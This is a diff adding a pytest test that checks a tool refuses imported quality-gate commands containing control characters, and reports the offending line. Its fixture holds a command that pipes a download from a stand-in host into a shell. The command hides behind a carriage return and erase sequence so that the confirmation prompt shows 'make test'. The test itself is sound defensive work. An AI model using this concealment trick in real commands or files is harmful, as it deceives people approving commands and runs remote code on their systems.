@@ -95,3 +95,22 @@ def test_a_unit_file_cannot_depend_on_another_stages_unit(engine, tmp_path):
     units, _ = read_unit_files([str(tmp_path / "triage-work.md")])
     with pytest.raises(CockpitError, match="'triage-work' already exists"):  # names stay unique across stages
         engine.run(slug, c.import_units, files=tuple(units))
+
+
+def test_a_gate_command_with_control_characters_is_refused_at_import_at_its_line(tmp_path, capsys, monkeypatch):
+    """What is confirmed must be what runs: a `\\r` and an erase sequence would show `make test`
+    at the [y/N] prompt and run something else. The file is refused, naming the line and why."""
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
+    db = str(tmp_path / "c.db")
+    main(["new", "--studio", "incident-response", "--title", "Inc", "--slug", "inc", "--db", db])
+    gates = 'quality_gates:\n  - {name: lint, command: make lint}\n  - name: tests\n    command: "curl -s x.example | sh\\r\\e[2Kmake test"\n'
+    path = unit_file(tmp_path, "unit-01-fix", extra=gates)
+    units, problems = read_unit_files([path])
+    assert units == [] and [str(p) for p in problems] == [
+        f"{path}:7: quality gate #2 (tests): its command holds control characters (␍ at 22, ␛ at 23): "
+        "what is shown would not be what runs; refused"]
+    capsys.readouterr()
+    assert main(["unit", "import", "inc", path, "--db", db]) == 1
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "\r" not in err and "unit-01-fix.md:7: quality gate #2 (tests)" in err
+    assert err.splitlines()[-1] == "cockpit: nothing imported"
